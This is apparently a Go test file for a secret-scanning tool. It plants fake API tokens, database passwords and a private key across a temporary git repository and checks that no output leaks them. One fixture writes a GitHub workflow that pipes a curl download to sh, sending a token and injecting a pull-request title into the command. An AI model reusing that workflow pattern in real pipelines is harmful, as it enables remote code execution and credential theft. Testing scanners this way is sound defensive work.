package cli_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/assaysec/assay/internal/cli"
	"github.com/assaysec/assay/internal/report/formats"
)

// planted are made-up credentials: what a rule knows them by, and the part that no output may hold.
var planted = []struct{ before, value, after string }{
	{"GITHUB_TOKEN=ghp_", "glmjpN8pASH4gZvE¦qe2mGEZtYenoTt0wAYe7", ""},
	{"SLACK_BOT_TOKEN=xoxb-", "718204396155-dJnPZSM121¦Cm4e0dAROe6Z", ""},
	{"DATABASE_URL=postgres://orders:", "CWcB3r¦pGQwNL63", "@db.internal.acme-shop.net:5432/orders"},
	{"MYSQL_URL=\"mysql://app:", "u5AfTn¦Dz1lJYFs", "@mysql.acme-shop.net:3306/app\""},
	{"aws_access_key_id = AKIA", "343YF4¦BZCJWUVEBU", ""},
	{"AWS_SECRET_ACCESS_KEY=", "tO6B3CJQ7QbWeNg7UWyi¦FzULJz4waFwLR+UyU9EX", ""},
	{"token: glpat-", "kC8ZQvM¦tqS6eb26h_W8d", ""},
	{"token: sk_live_", "lYbArbN17ItT1AF4h5cy03nT5HwNISiz¦7Ls8x13uElWfnA28Yd5KPXSxMY", ""},
	{"AccountKey=", "KO1Gxs6TiNyX1EWqbkQV5aaoSwz33MPKvmtyBVqWOp0O¦GN7DbnPJOsbd07W0ck66RcimCn9zwoz7+ASt99kutQ==", ";"},
	{"key = 'SG.", "¦_YIN_TxstvCYHOoS6K6MXyD6.CV4ek12PQDkYxZy7pIIfCiZW2rIO9iOgUKp5x-yQsybZ", "'"},
	{"session = \"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.", "¦eyJzdWIiOiI0MDM3Mjk2NTMiLCJpYXQiOjE3MDUyMDc1Njl9.81XlFOyYvXubLCqtMLu85VgzCvSmOd5GFAoadI5gOsl", "\""},
	{"Server=tcp:sql.acme-shop.net,1433;Initial Catalog=app;User ID=app;Password=", "EHa9TJ¦xJo3keTb", ";Encrypt=True;"},
	{"-----BEGIN RSA PRIVATE KEY-----\n", "MIIEpRYWYnu2Fy2xVnyKMKuC7ScWHjP8ji8obh1AMN90EwEICc1rU2NPOn9dlcNC¦\n" +
		"DUTU1lmQj6bXSmq0vzZaWyLH81HsMr9e01mzBHLH0KEzYg7MWG0NBmaAuf6D91i9\n" +
		"v3rccE7dlYmnky1DAaQw39hO7ddA2Jhbe6QDt2VaoWH8xzL9ThkS0SOBOU9ialQR\n", "-----END RSA PRIVATE KEY-----\n"},
}

// neighbours are values that no rule need know: they stand on the lines of others.
var neighbours = []string{"Zq8vT2mK¦x0LrPd4w", "hn7RtYc¦2Qp9sVb"}

func plant(i int) string { return whole(planted[i].before + planted[i].value + planted[i].after) }

// shards are all pieces of eight characters of all planted values, and of the forms in which they were encoded.
func shards() map[string]string {
	out := map[string]string{}
	cut := func(of, text string, n int) {
		for _, line := range strings.Split(text, "\n") {
			for i := 0; i+n <= len(line); i++ {
				out[line[i:i+n]] = of
			}
		}
	}
	for i, p := range planted {
		of := fmt.Sprintf("planted value %d", i+1)
		cut(of, whole(p.value), 8)
		cut(of+" in hex", hex.EncodeToString([]byte(whole(p.value))), 16)
		cut(of+" in HEX", strings.ToUpper(hex.EncodeToString([]byte(whole(p.value)))), 16)
		cut(of+" in percent escapes", percent(whole(p.value)), 24)
		for shift := range 3 {
			cut(of+" in base64", strings.TrimRight(base64.StdEncoding.EncodeToString([]byte(whole(p.value))[shift:]), "="), 11)
		}
	}
	for _, n := range neighbours {
		cut("a neighbour", whole(n), 8)
	}
	return out
}

func percent(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

// A bench is a folder to work in, and a way to run the command there.
type bench struct {
	t     *testing.T
	root  string // holds all else
	repo  string
	cache string
	clock int
	env   map[string]string // beside what every run has
}

func newBench(t *testing.T) *bench {
	t.Helper()
	root := t.TempDir()
	b := &bench{t: t, root: root, repo: filepath.Join(root, "repo"), cache: filepath.Join(root, "cache")}
	if err := os.Mkdir(b.repo, 0o755); err != nil {
		t.Fatal(err)
	}
	return b
}

func (b *bench) run(stdin string, args ...string) (code int, stdout, stderr string) {
	return b.runContext(context.Background(), stdin, args...)
}

func (b *bench) runContext(ctx context.Context, stdin string, args ...string) (code int, stdout, stderr string) {
	var out, err bytes.Buffer
	env := map[string]string{"ASSAY_NOW": "2026-11-24T09:00:00Z", "ASSAY_CACHE_DIR": b.cache}
	maps.Copy(env, b.env)
	code = cli.Main(ctx, args, cli.Env{Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &err,
		Getenv: func(name string) string { return env[name] }, Now: time.Now, Width: func(io.Writer) int { return 0 }})
	return code, out.String(), err.String()
}

// runAmong is run with more of an environment.
func (b *bench) runAmong(env map[string]string, args ...string) (code int, stdout, stderr string) {
	with := *b
	with.env = env
	return with.run("", args...)
}

func (b *bench) git(args ...string) string {
	b.t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		b.t.Skip("no git to make repositories with")
	}
	b.clock++
	date := fmt.Sprintf("%d +0000", 1_790_000_000+b.clock)
	cmd := exec.Command("git", args...)
	cmd.Dir = b.repo
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=Ada", "GIT_AUTHOR_EMAIL=ada@example.com",
		"GIT_COMMITTER_NAME=Ada", "GIT_COMMITTER_EMAIL=ada@example.com", "GIT_AUTHOR_DATE="+date, "GIT_COMMITTER_DATE="+date)
	out, err := cmd.CombinedOutput()
	if err != nil {
		b.t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out))
}

func (b *bench) write(name, text string) {
	b.t.Helper()
	full := filepath.Join(b.root, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
		b.t.Fatal(err)
	}
	if err := os.WriteFile(full, []byte(text), 0o644); err != nil {
		b.t.Fatal(err)
	}
}

func (b *bench) commit(message string) {
	b.t.Helper()
	b.git("add", "-A")
	b.git("commit", "-q", "--allow-empty", "-m", message)
}

// everyFormat are flags that write each format to a file of its own.
func (b *bench) everyFormat() (args, files []string) {
	for _, f := range formats.All {
		file := filepath.Join(b.root, "reports", f.Name)
		args = append(args, "--format", f.Name, "--output", file)
		files = append(files, file)
	}
	_ = os.MkdirAll(filepath.Join(b.root, "reports"), 0o755)
	return args, files
}

// plantAll makes a repository that holds every planted value in many ways.
func plantAll(b *bench) {
	b.git("init", "-q", "-b", "main", ".")
	b.write("repo/README", "nothing\n")
	b.commit("first")
	b.git("branch", "base")

	// in files, in the open, all at once and each alone
	var all strings.Builder
	for i := range planted {
		all.WriteString(plant(i) + "\n")
		b.write(fmt.Sprintf("repo/one/%d.txt", i), "before\n"+plant(i)+"\nafter\n")
	}
	b.write("repo/all.env", all.String())

	// neighbours on one line, minified, in marks and comments
	b.write("repo/line.env", "user=app pass="+whole(neighbours[0])+" "+plant(0)+" "+plant(1)+" secret: '"+whole(neighbours[1])+"'\n")
	b.write("repo/line.js", "f('"+whole(neighbours[0])+"',"+strings.Repeat("0,", 3000)+"'"+plant(4)+"',\""+whole(neighbours[1])+"\","+strings.Repeat("1,", 3000)+")\n")
	b.write("repo/marks.env", plant(0)+" # gitleaks:allow "+plant(1)+" "+plant(6)+"\n"+
		plant(1)+" # assay:ignore CWE-798 reason=\""+plant(6)+"\"\n"+
		plant(6)+" # assay:ignore "+whole(planted[0].value)+" until="+whole(planted[2].value)+"\n"+
		"# assay:ignore CWE-798 "+whole(planted[5].value)+"=1\n"+
		"# assay:ignore CWE-798 until="+whole(planted[3].value)+"\n"+plant(0)+"\n")

	// encoded
	for i := range planted {
		text := plant(i)
		b.write(fmt.Sprintf("repo/encoded/%d.b64", i), "data: "+base64.StdEncoding.EncodeToString([]byte(text))+"\n")
		b.write(fmt.Sprintf("repo/encoded/%d.b64b64", i), "data: "+base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(text))))+"\n")
		b.write(fmt.Sprintf("repo/encoded/%d.hex", i), "data: "+hex.EncodeToString([]byte(text))+"\n")
		b.write(fmt.Sprintf("repo/encoded/%d.url", i), "data: "+percent(text)+"\n")
	}

	// in an archive, and in UTF-16
	var z bytes.Buffer
	w := zip.NewWriter(&z)
	f, _ := w.Create("inner/all.env")
	_, _ = f.Write([]byte(all.String()))
	_ = w.Close()
	b.write("repo/data.zip", z.String())
	var wide bytes.Buffer
	wide.WriteString("\xff\xfe")
	for _, c := range []byte(all.String()) {
		wide.Write([]byte{c, 0})
	}
	b.write("repo/wide.txt", wide.String())

	// in links
	b.link("store/"+"ghp_"+whole(planted[0].value), "link")
	b.link(plant(2)[len("DATABASE_URL="):], "link-to-url")

	// in names of folders, files, members of archives and people
	token, other := "ghp_"+whole(planted[0].value), "glpat-"+whole(planted[6].value)
	b.write("repo/names/"+token+"/"+other+".env", all.String())
	var named bytes.Buffer
	w = zip.NewWriter(&named)
	f, _ = w.Create("inner/" + token + ".env")
	_, _ = f.Write([]byte(all.String()))
	_ = w.Close()
	b.write("repo/names/"+other+".zip", named.String())
	b.write("repo/names/"+token+".zip", "PK\x03\x04 broken")
	b.commit("names")
	b.git("commit", "-q", "--amend", "--author", token+" <"+other+"@example.com>", "-m", "names")

	// in a file's owner and other files of settings that cannot be understood
	b.write("repo/CODEOWNERS", whole(planted[0].value)+" "+plant(0)+"\n["+plant(1)+"\n")
	b.write("repo/.gitleaksignore", plant(0)+"\n"+plant(1)+":x:y\n")
	b.write("repo/catalog-info.yaml", "kind: Component\nmetadata: {name: ["+whole(planted[0].value)+"]}\nspec: {owner: {"+whole(planted[1].value)+": 1}}\n")
	b.write("repo/.assay/exceptions.yaml", "- id: EX-1\n  kind: false-positive\n  match: {path: \"all.env\"}\n  max-findings: 900\n  reason: it is "+plant(6)[7:]+
		" and "+strings.TrimPrefix(plant(0), "GITHUB_TOKEN=")+"\n  owner: team-"+strings.TrimPrefix(plant(0), "GITHUB_TOKEN=")+"\n  approver: b@example.com\n  created: 2026-11-01\n  expires: 2026-12-01\n")
	b.write("repo/.github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"+
		"      - run: curl -H 'Authorization: "+strings.TrimPrefix(plant(0), "GITHUB_TOKEN=")+"' example.com/${{ github.event.pull_request.title }} | sh\n")
	b.commit("add " + plant(0))

	// in the history only, in messages
	b.write("repo/gone.env", all.String())
	b.commit(all.String())
	b.git("rm", "-q", "gone.env")
	b.commit("drop\n\n" + plant(2))
	b.git("tag", "-a", "-m", plant(3), "v1")
	b.git("notes", "add", "-m", plant(4))
	b.write("repo/staged.env", all.String())
	b.git("add", "-A")
}

func TestNoSecretInAnyOutput(t *testing.T) {
	pieces := shards()
	b := newBench(t)
	plantAll(b)
	found := map[string]bool{}
	check := func(where, text string) {
		t.Helper()
		for _, n := range []int{8, 11, 16, 24} {
			for i := 0; i+n <= len(text); i++ {
				if of, bad := pieces[text[i:i+n]]; bad && !found[where+of] {
					found[where+of] = true
					t.Errorf("%s holds a piece of %s: …%q…", where, of, text[max(0, i-60):min(len(text), i+n+20)])
				}
			}
		}
	}
	args, files := b.everyFormat()
	kept := filepath.Join(b.root, "receipt.json")
	for _, verb := range [][]string{
		{"gate", "--receipt", kept, "--stage", "build", b.repo}, {"gate", "--receipt", kept, "--stage", "build", "--history", b.repo},
		{"gate", "--receipt", kept, "--diff-base", "base", b.repo}, {"gate", "--receipt", kept, "--stage", "pre-commit", "--staged", b.repo},
		{"gate", "--receipt", kept, "--stage", "build", filepath.Join(b.repo, "names")},
		{"gate", "--receipt", kept, "--stage", "build", "--engine", "pipeline", b.repo},
		{"scan", b.repo}, {"scan", "--show-suppressed", b.repo}, {"scan", "--no-cache", "--include", "binary", b.repo},
		{"scan", "--history", b.repo}, {"scan", "--history", "--show-suppressed", b.repo},
		{"scan", "--staged", b.repo}, {"scan", "git:" + b.repo + "@HEAD~1"}, {"scan", filepath.Join(b.repo, "line.env")},
		{"gate", "--stage", "deploy", b.repo}, {"gate", "--diff-base", "base", b.repo}, {"gate", "--staged", "--stage", "pre-commit", "--show-suppressed", b.repo},
	} {
		t.Run(strings.Join(verb[:len(verb)-1], " "), func(t *testing.T) {
			code, stdout, stderr := b.run("", append(verb, args...)...)
			if code == 2 {
				t.Fatalf("exit code 2: %s", stderr)
			}
			check("stdout", stdout)
			check("stderr", stderr)
			if verb[1] == "--receipt" {
				text, err := os.ReadFile(kept)
				if err != nil {
					t.Fatalf("%v: %s", err, stderr)
				}
				check("receipt", string(text))
				if code, stdout, _ := b.run("", "replay", kept); code != 0 {
					t.Errorf("replay: exit code %d: %s", code, stdout)
				}
			}
			for _, file := range files {
				text, err := os.ReadFile(file)
				if err != nil {
					t.Fatal(err)
				}
				check(filepath.Base(file), string(text))
				if filepath.Base(file) == "json" && !slices.Contains(verb, "pipeline") && !strings.Contains(verb[len(verb)-1], "names") && !strings.Contains(string(text), "secret/github-personal-access-token") {
					t.Error("the planted token was not found at all")
				}
			}
		})
	}
	t.Run("others", func(t *testing.T) {
		for _, verb := range [][]string{{"replay", kept}, {"comment", "--print", filepath.Join(b.root, "reports", "json")}, {"fix", b.repo}, {"doctor", b.repo},
			{"exceptions", "census", b.repo}, {"exceptions", "census", "--format", "html", b.repo}, {"exceptions", "list", b.repo}} {
			_, stdout, stderr := b.run("", verb...)
			check(strings.Join(verb[:len(verb)-1], " "), stdout+stderr)
		}
	})
	t.Run("stdin", func(t *testing.T) {
		var all strings.Builder
		for i := range planted {
			all.WriteString(plant(i) + "\n")
		}
		_, stdout, stderr := b.run(all.String(), "scan", "-")
		check("stdout", stdout+stderr)
	})
	t.Run("explain", func(t *testing.T) {
		for _, mode := range [][]string{{}, {"--history"}} {
			_, out, _ := b.run("", append(append([]string{"scan", "-f", "json"}, mode...), b.repo)...)
			var r struct {
				Findings []struct{ Fingerprint, Rule string }
			}
			if err := json.Unmarshal([]byte(out), &r); err != nil {
				t.Fatal(err)
			}
			seen := map[string]bool{}
			for _, f := range r.Findings {
				if seen[f.Rule] {
					continue
				}
				seen[f.Rule] = true
				_, stdout, stderr := b.run("", append(append([]string{"explain"}, mode...), f.Fingerprint, b.repo)...)
				check("explain", stdout+stderr)
			}
		}
	})
	t.Run("baseline", func(t *testing.T) {
		for _, args := range [][]string{{}, {"--history"}, {"--accept", "--owner", "o", "--reason", "r"}} {
			_, stdout, stderr := b.run("", append(append([]string{"baseline"}, args...), b.repo)...)
			check("stdout", stdout+stderr)
		}
		text, err := os.ReadFile(filepath.Join(b.repo, ".assay", "baseline.json"))
		if err != nil {
			t.Fatal(err)
		}
		check("baseline", string(text))
	})
	t.Run("cache", func(t *testing.T) {
		n := 0
		err := filepath.WalkDir(b.cache, func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			n++
			text, err := os.ReadFile(path)
			check("cache", string(text))
			return err
		})
		if err != nil || n == 0 {
			t.Errorf("%d files of the cache, %v", n, err)
		}
	})
}

// A file of settings that cannot be read is quoted in no error: it may be the place where somebody put a credential.
func TestNoSecretInErrors(t *testing.T) {
	pieces := shards()
	value, url := whole(planted[0].value), plant(2)
	for name, files := range map[string]map[string]string{
		"unknown key":          {".assay.yaml": value + ": 1\n"},
		"unknown stage":        {".assay.yaml": "gate: {" + value + ": {deny: x}}\n"},
		"wrong value":          {".assay.yaml": "scan: {jobs: " + value + "}\n"},
		"unknown tier":         {".assay.yaml": "service: {name: x, tier: " + value + "}\n"},
		"unknown class":        {".assay.yaml": "scan: {include: [\"" + url + "\"]}\n"},
		"size":                 {".assay.yaml": "scan: {limits: {file-size: \"" + value + "\"}}\n"},
		"broken YAML":          {".assay.yaml": "service:\n  name: \"" + value + "\n"},
		"broken YAML anchor":   {".assay.yaml": "service: *" + value + "\n"},
		"broken YAML tag":      {".assay.yaml": "service: !!" + value + " [" + url + "\n"},
		"two keys":             {".assay.yaml": value + ": 1\n" + value + ": 2\n"},
		"expression":           {".assay.yaml": "gate: {pull-request: {deny: \"'" + value + "' == " + value + "\"}}\n"},
		"broken expression":    {".assay.yaml": "gate: {pull-request: {deny: \"risk == '" + value + "' ''\"}}\n"},
		"broken TOML":          {".assay.yaml": "rules: [r.toml]\n", "r.toml": "token = ghp_" + value + "\n"},
		"broken TOML string":   {".assay.yaml": "rules: [r.toml]\n", "r.toml": "token = \"ghp_" + value + "\n"},
		"TOML of wrong type":   {".assay.yaml": "rules: [r.toml]\n", "r.toml": "rules = \"" + value + "\"\n"},
		"unknown TOML key":     {".assay.yaml": "rules: [r.toml]\n", "r.toml": value + " = 1\n"},
		"broken rule":          {".assay.yaml": "rules: [r.toml]\n", "r.toml": "[[rules]]\nid = \"x\"\nregex = '''" + value + "(?=x)'''\n"},
		"broken rule syntax":   {".assay.yaml": "rules: [r.toml]\n", "r.toml": "[[rules]]\nid = \"x\"\nregex = '''(" + value + "'''\n"},
		"broken baseline":      {".assay/baseline.json": "{\"" + value + "\": 1}\n"},
		"no baseline":          {".assay/baseline.json": value + "\n"},
		"baseline of gitleaks": {".assay/baseline.json": "[{\"RuleID\": {\"" + value + "\": 1}, \"Secret\": \"" + value + "\"}]"},
		"folder":               {"sub/.assay.yaml": value + ": 1\n"},
		"catalogue":            {"catalog-info.yaml": "kind: [" + value + "\n"},
	} {
		t.Run(name, func(t *testing.T) {
			b := newBench(t)
			for file, text := range files {
				b.write("repo/"+file, text)
			}
			for _, verb := range [][]string{{"scan", b.repo}, {"config", b.repo}, {"rules", "test", filepath.Join(b.repo, "r.toml")}} {
				_, stdout, stderr := b.run("", verb...)
				for i := 0; i+8 <= len(stdout+stderr); i++ {
					if of, bad := pieces[(stdout + stderr)[i:i+8]]; bad {
						t.Errorf("%s holds a piece of %s: %s", verb[0], of, stderr+stdout)
						break
					}
				}
			}
		})
	}
}
